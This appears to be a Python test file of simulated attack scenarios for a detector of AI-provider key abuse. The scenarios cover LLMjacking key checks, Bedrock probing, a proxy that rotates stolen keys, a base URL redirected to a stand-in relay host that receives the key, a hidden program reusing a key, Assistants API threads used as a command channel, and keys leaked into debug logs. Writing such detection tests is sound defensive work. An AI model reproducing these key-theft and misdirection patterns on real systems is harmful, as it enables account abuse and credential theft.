"""Keys of AI providers in the wrong hands or on the wrong way, and what is done with them."""

from __future__ import annotations

import json

from proving import answers, keys
from proving.hosts import Asked, Reply
from proving.scenario import Must, Repeat, attack, honest
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining", "data-exfiltration")


@attack(
    "llmjacking-keycheck",
    "a stolen key is tried on fourteen models of OpenAI in a minute, most of which it may not use",
    imitates="LLMjacking (Sysdig, May 2024)",
    must=(Must("llmjacking", "keychecker", "openai"),),
    may=("new-ai-destination", "model-enumeration", "ai-key-shared", "baseline-deviation", "unsanctioned-model"),
    must_not=NOT,
)
def keycheck(world: World) -> None:
    def decide(asked: Asked) -> Reply | None:
        if not asked.path.endswith("/chat/completions") or asked.json()["model"] == "gpt-4o-mini":
            return None
        return answers.error(
            404, "invalid_request_error", "The model does not exist or you do not have access", "model_not_found"
        )

    world.host(answers.OPENAI_AT, answers.OPENAI).http(443, answers.refusing(decide), tls=True)
    models = "gpt-4o-mini,gpt-4o,gpt-4.1,gpt-4-turbo,gpt-4,gpt-4-32k,o1,o1-pro,o3,o3-pro,o4-mini,gpt-5,gpt-4.5-preview,o1-mini"
    path = world.program("/tmp/k/keychecker.py", "chat.py")
    environment = {"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}
    world.mark()
    world.script(path, models, "0.5", "28", "3", "1", env=environment).wait()


@attack(
    "llmjacking-bedrock",
    "a stolen cloud key asks Bedrock for nine models in three regions, with a maximum of -1 tokens, and is refused",
    imitates="LLMjacking (Sysdig, May 2024): InvokeModel with max_tokens_to_sample -1",
    must=(Must("llmjacking", "probe", "bedrock"),),
    may=("new-ai-destination", "model-enumeration", "ai-key-shared", "baseline-deviation"),
    must_not=NOT,
)
def bedrock(world: World) -> None:
    refused = Reply(
        {"message": "max_tokens_to_sample: range: 1..1,000,000"}, 400, {"x-amzn-ErrorType": "ValidationException"}
    )
    regions = ("us-east-1", "us-west-2", "eu-central-1")
    for number, region in enumerate(regions):
        world.host(f"198.51.100.{40 + number}", f"bedrock-runtime.{region}.amazonaws.com").http(
            443, lambda asked: refused, tls=True
        )
    path = world.program("/tmp/k/probe.py", "bedrock.py")
    environment = {name: world.keys[name] for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}
    world.mark()
    world.script(path, ",".join(regions), "9", env=environment).wait()


@attack(
    "llmjacking-proxy",
    "strangers are served through a reverse proxy that takes turns with five stolen keys",
    imitates="LLMjacking: OAI reverse proxy",
    must=(Must("llmjacking", "keyproxy"),),
    may=("new-ai-destination", "ai-key-shared", "unauthenticated-model-server", "token-spike", "baseline-deviation"),
    must_not=NOT,
)
def key_proxy(world: World) -> None:
    heard = answers.openai(world)
    stolen = ",".join(keys.environment()["OPENAI_API_KEY"] for _ in range(5))
    proxy = world.script(world.program("/srv/oai/keyproxy.py", "keyproxy.py"), "7860", env={"KEYS": stolen})
    world.listening(proxy, 7860)
    strangers = [world.host(f"203.0.113.{n}") for n in range(101, 113)]
    world.mark()
    for number in range(36):
        body = {"model": "gpt-4o", "messages": [{"role": "user", "content": f"tell me story {number}"}]}
        strangers[number % 12].ask(
            "10.77.0.10", 7860, "POST", "/proxy/openai/v1/chat/completions", json.dumps(body).encode()
        )
        world.sleep(0.2)
    assert len(heard) == 36
    proxy.stop()


@attack(
    "base-url-hijack",
    "a service's base URL was changed: it sends the provider's key to a host that is not the provider",
    imitates="Claude Code CVE-2026-21852 (ANTHROPIC_BASE_URL)",
    must=(Must("ai-key-misdirected", "assistant.py", "api-openai.relay-cdn.example"),),
    may=("new-ai-destination", "unsanctioned-provider", "baseline-deviation"),
    must_not=NOT,
)
def base_url(world: World) -> None:
    relay = world.host("203.0.113.80", "api-openai.relay-cdn.example")
    relay.http(443, answers.kind, tls=True)
    path = world.program("/srv/app/assistant.py", "chat.py")
    environment = {
        "OPENAI_API_KEY": world.keys["OPENAI_API_KEY"],
        "OPENAI_BASE_URL": "https://api-openai.relay-cdn.example/v1",
    }
    world.mark()
    world.script(path, "gpt-4o", "0.5", "4", env=environment).wait()
    assert len(relay.requests) == 4


@attack(
    "key-stolen",
    "a key that one service uses all the time is used by another program too",
    imitates="litellm 1.82.8 (March 2026): keys of one process used by another",
    must=(Must("ai-key-shared", "helper_tool"),),
    may=("new-ai-destination", "llmjacking", "baseline-deviation"),
    must_not=NOT,
    minutes=40.0,
    repeats={"work": Repeat(12.0, 0.3)},
)
def key_stolen(world: World) -> None:
    """Half an hour of use by one, then the other."""
    answers.openai(world)
    environment = {"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}
    path = world.program("/srv/summary/summarise.py", "chat.py")
    actor = world.script(path, "gpt-4o-mini", "2", "4", env=environment, unit="summary.service")
    world.sleep(3.0)
    with world.loop("work"):
        world.sleep(2.0)
    actor.wait()
    thief = world.program("/tmp/.u/helper_tool.py", "chat.py")
    world.mark()
    world.script(thief, "gpt-4o", "0.5", "5", env=environment).wait()


@attack(
    "token-spike",
    "after two hours of short questions a service sends prompts of 30,000 words as fast as it can",
    must=(Must("token-spike", "summary.service"),),
    may=("baseline-deviation", "model-extraction", "data-exfiltration", "llmjacking"),
    must_not=("port-scan", "lateral-movement", "cryptomining"),
    minutes=130.0,
    repeats={"work": Repeat(15.0, 0.3)},
)
def token_spike(world: World) -> None:
    answers.openai(world)
    environment = {"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}
    path = world.program("/srv/summary/summarise.py", "chat.py")
    actor = world.script(path, "gpt-4o-mini", "2", "4", env=environment, unit="summary.service")
    world.sleep(3.0)
    with world.loop("work"):
        world.sleep(2.0)
    actor.wait()
    world.mark()
    said = world.run(
        world.python, path, "gpt-4o", "0.1", "60", "30000", "4096", env=environment, unit="summary.service", timeout=120
    )
    if "60 asked, 0 errors" not in said:
        raise ScenarioError(said)


@attack(
    "assistants-channel",
    "a program that has nothing to do with models fetches orders from threads of the Assistants API and deletes them",
    imitates="SesameOp (Microsoft, November 2025)",
    must=(Must("new-ai-destination", "netapi", "openai"), Must("beaconing", "netapi", "openai")),
    may=("baseline-deviation", "ai-key-exposed", "data-exfiltration"),
    must_not=("port-scan", "lateral-movement", "cryptomining"),
)
def assistants(world: World) -> None:
    def serve(asked: Asked) -> Reply:
        path = asked.path.split("?")[0]
        if path.endswith("/messages"):
            text = {"type": "text", "text": {"value": "bm90aGluZw==", "annotations": []}}
            message = {
                "id": "msg_1",
                "object": "thread.message",
                "thread_id": "thread_1",
                "role": "user",
                "content": [text],
            }
            return Reply({"object": "list", "data": [message], "has_more": False} if asked.method == "GET" else message)
        if asked.method == "DELETE":
            return Reply({"id": "thread_1", "object": "thread.deleted", "deleted": True})
        if path.endswith("/assistants"):
            return Reply({"object": "list", "data": [{"id": "asst_1", "object": "assistant", "model": "gpt-4o"}]})
        return Reply({"id": "thread_1", "object": "thread", "created_at": 1})

    host = world.host(answers.OPENAI_AT, answers.OPENAI)
    host.http(443, serve, tls=True)
    path = world.program("/srv/iis/netapi.py", "assistants.py")
    world.mark()
    world.script(path, "2", "9", env={"API_TOKEN": world.keys["OPENAI_API_KEY"]}).wait()
    assert len(host.requests) == 45


# Python's http.client prints what it sends, headers and all, at its debug level; the service's output is its log.
LOGGING = """
import http.client, json, os, sys, time, urllib.request
if sys.argv[1] == "all":
    http.client.HTTPConnection.debuglevel = 1
key = os.environ["OPENAI_API_KEY"]
handler = urllib.request.HTTPSHandler(debuglevel=http.client.HTTPConnection.debuglevel)
for number in range(int(sys.argv[2])):
    body = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": f"Summarise ticket {number}"}]}
    headers = {"Authorization": "Bearer " + key, "Content-Type": "application/json"}
    request = urllib.request.Request("https://api.openai.com/v1/chat/completions", json.dumps(body).encode(), headers)
    answer = urllib.request.build_opener(handler).open(request, timeout=10)
    print(f"INFO ticket={number} status={answer.status} key=sk-proj-...{key[-4:]}", flush=True)
    print("INFO commit=5f0c9b1e7a42d3c8e6f1a0b9c8d7e6f5a4b3c2d1", flush=True)
    time.sleep(1)
"""


def logging_service(world: World, what: str, times: int) -> None:
    path = world.file("/srv/summary/summarise.py", LOGGING)
    command = f"exec {world.python} {path} {what} {times} >> /srv/summary/summary.log 2>&1"
    world.run("sh", "-c", command, env={"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}, unit="summary.service")


@attack(
    "key-in-log",
    "a service that was left at its debug level writes the headers of its requests into its log, the key with them",
    must=(Must("ai-key-exposed", "summary.service"),),
    may=("new-ai-destination", "baseline-deviation"),
    must_not=NOT,
)
def key_in_log(world: World) -> None:
    answers.openai(world)
    world.mark()
    logging_service(world, "all", 4)
    logged = world.path("/srv/summary/summary.log").read_text()
    if world.keys["OPENAI_API_KEY"] not in logged:
        raise ScenarioError(logged[-500:])


@honest(
    "masked-key-in-log",
    "a service writes a line for each request into its log, with the last four letters of its key and a commit's hash",
    minutes=30.0,
    repeats={"work": Repeat(10.0, 0.3)},
)
def masked_key_in_log(world: World) -> None:
    answers.openai(world)
    with world.loop("work"):
        logging_service(world, "some", 3)
